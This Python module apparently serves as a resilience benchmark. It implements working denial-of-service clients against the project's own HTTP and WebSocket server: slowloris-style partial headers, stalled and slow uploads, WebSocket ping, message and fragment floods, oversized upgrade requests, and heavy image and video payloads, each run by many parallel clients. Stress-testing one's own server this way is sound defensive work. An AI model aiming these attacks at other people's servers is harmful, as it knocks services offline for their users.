"""Clients that try to stop a server for everybody, without a token. Each runs until it is killed:

    python -m benchmarks.attackers NAME http://127.0.0.1:8000

Only for a server of your own, on this machine.
"""

import asyncio
import base64
import contextlib
import io
import os
import socket
import sys
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable
from fractions import Fraction
from functools import cache
from pathlib import Path

import numpy as np
from PIL import Image as Pictures

from horst.serving.frames import join_frame, join_recording

Attack = Callable[[str, int], Awaitable[None]]
ATTACKS: dict[str, tuple[int, Attack]] = {}
"""{name: (clients at once, what each does, again and again)}"""


def attack(clients: int) -> Callable[[Attack], Attack]:
    def add(work: Attack) -> Attack:
        ATTACKS[work.__name__] = clients, work
        return work

    return add


@contextlib.asynccontextmanager
async def connection(
    host: str, port: int, data: bytes = b""
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(data)
        yield reader, writer
    finally:
        writer.transport.abort()


def head(path: str, length: int) -> bytes:
    return f"POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: {length}\r\n\r\n".encode()


def upgrade_head(query: str = "", headers: str = "") -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    asked = f"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: {key}\r\n"
    return f"GET /ws{query} HTTP/1.1\r\nhost: localhost\r\n{asked}{headers}\r\n".encode()


async def upgrade(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, start: bool) -> None:
    """A WebSocket; `start`: with a stream."""
    writer.write(upgrade_head())
    answer = await reader.readuntil(b"\r\n\r\n")
    if b" 101 " not in answer:
        raise ConnectionError(answer)
    if start:
        writer.write(message(1, b'{"type": "start"}'))
        await reader.readexactly(10)


def message(opcode: int, data: bytes, *, final: bool = True) -> bytes:
    """A WebSocket frame of a client, with the mask 0; `final`: it ends a message."""
    if len(data) < 126:
        length = bytes([0x80 | len(data)])
    else:
        length = bytes([0x80 | 127]) + len(data).to_bytes(8, "big")  # longer than it must be for some
    return bytes([0x80 * final | opcode]) + length + bytes(4) + data


@cache
def large_png() -> bytes:
    """9.4 megapixels in some kilobytes."""
    buffer = io.BytesIO()
    row = np.arange(4096, dtype=np.uint16).astype(np.uint8)
    Pictures.fromarray(np.broadcast_to(row[:, None], (2304, 4096, 3)).copy()).save(buffer, "png")
    return buffer.getvalue()


@cache
def long_video() -> bytes:
    """3,000 frames of 3840 x 2160 at 100,000 frames per second: one keyframe, again and again."""
    import av

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "long.mp4"
        with av.open(str(path), "w") as file:
            stream = file.add_stream("libx264", rate=100_000, width=3840, height=2160, pix_fmt="yuv420p")
            frame = av.VideoFrame.from_ndarray(np.zeros((2160, 3840, 3), np.uint8), format="rgb24")
            packet = bytes((stream.encode(frame) + stream.encode(None))[0])
            for number in range(3000):
                again = av.Packet(packet)
                again.stream, again.pts, again.dts, again.is_keyframe = stream, number, number, True
                again.time_base = Fraction(1, 100_000)
                file.mux(again)
        return path.read_bytes()


@attack(200)
async def silent_connections(host: str, port: int) -> None:
    async with connection(host, port) as (reader, _):
        await reader.read()


@attack(200)
async def half_heads(host: str, port: int) -> None:
    async with connection(host, port, b"GET / HTTP/1.1\r\nhost: localhost\r\nx-part: ") as (_, writer):
        while not writer.is_closing():
            writer.write(b"x")
            await asyncio.sleep(1)


@attack(40)
async def silent_sockets(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        await upgrade(reader, writer, start=False)
        await reader.read()


@attack(12)
async def stalled_bodies(host: str, port: int) -> None:
    async with connection(host, port, head("/api/predict", 60 << 20)) as (reader, writer):
        for _ in range(59):
            writer.write(bytes(1 << 20))
            await writer.drain()
        await reader.read()


@attack(40)
async def large_recordings(host: str, port: int) -> None:
    body = join_recording([i / 10 for i in range(8)], [large_png()] * 8)
    async with connection(host, port, head("/api/recordings/wave", len(body)) + body) as (reader, _):
        await reader.readuntil(b"\r\n")


@attack(2)
async def large_frames(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        await upgrade(reader, writer, start=True)
        reading = asyncio.create_task(reader.read())
        for number in range(1_000_000):
            if reading.done():
                return
            writer.write(message(2, join_frame(number, number / 10, large_png())))
            await writer.drain()
            await asyncio.sleep(0.1)


@attack(2)
async def unread_pings(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        await upgrade(reader, writer, start=True)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        pings = message(9, bytes(125)) * 100
        while True:
            writer.write(pings)
            await writer.drain()
            await asyncio.sleep(0.001)


@attack(2)
async def message_flood(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        await upgrade(reader, writer, start=True)
        async with asyncio.TaskGroup() as group:
            group.create_task(reader.read())
            while not reader.at_eof():
                writer.write(message(2, join_frame(0, 0.0, b"")) * 100)
                await writer.drain()
                await asyncio.sleep(0.001)


@attack(2)
async def long_videos(host: str, port: int) -> None:
    body = long_video()
    async with connection(host, port, head("/api/predict", len(body)) + body) as (reader, _):
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(2):  # then it leaves
                await reader.read()


@attack(192)
async def long_upgrades(host: str, port: int) -> None:
    """Heads that the HTTP parser accepts, and the WebSocket parser does not."""
    async with connection(host, port, upgrade_head("?" + 9000 * "x")) as (reader, _):
        await reader.read()


@attack(192)
async def unread_answers(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 12)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        while True:
            writer.write(b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n" * 20)
            await writer.drain()
            await asyncio.sleep(0.5)


@attack(192)
async def stalled_requests(host: str, port: int) -> None:
    async with connection(host, port, head("/api/teach", 10)) as (reader, _):
        await reader.read()


@attack(4)
async def small_chunks(host: str, port: int) -> None:
    start = b"POST /api/recordings/wave HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
    async with connection(host, port, start + 250_000 * b"1\r\nx\r\n") as (reader, _):
        await reader.readuntil(b"\r\n")


@attack(2)
async def empty_fragments(host: str, port: int) -> None:
    async with connection(host, port) as (reader, writer):
        await upgrade(reader, writer, start=True)
        writer.write(message(2, b"x", final=False))
        while True:
            writer.write(message(0, b"", final=False) * 5000)
            await writer.drain()
            await asyncio.sleep(0.001)


@attack(10)
async def slow_uploads(host: str, port: int) -> None:
    async with connection(host, port, head("/api/predict", 60 << 20)) as (reader, writer):
        reading = asyncio.create_task(reader.read(1))
        while not reading.done():
            writer.write(bytes(2000))
            await writer.drain()
            await asyncio.sleep(0.1)


async def run(name: str, host: str, port: int) -> None:
    clients, work = ATTACKS[name]

    async def repeat() -> None:
        while True:
            with contextlib.suppress(OSError, EOFError, asyncio.LimitOverrunError, ExceptionGroup):
                await work(host, port)
            await asyncio.sleep(0.5)

    await asyncio.gather(*(repeat() for _ in range(clients)))


def main() -> None:
    name, url = sys.argv[1:]
    host, port = url.removeprefix("http://").rstrip("/").split(":")
    os.nice(19)  # its own work is not the server's
    if name in ("large_recordings", "large_frames"):
        large_png()
    if name == "long_videos":
        long_video()
    print("ready", flush=True)
    asyncio.run(run(name, host, int(port)))


if __name__ == "__main__":
    main()
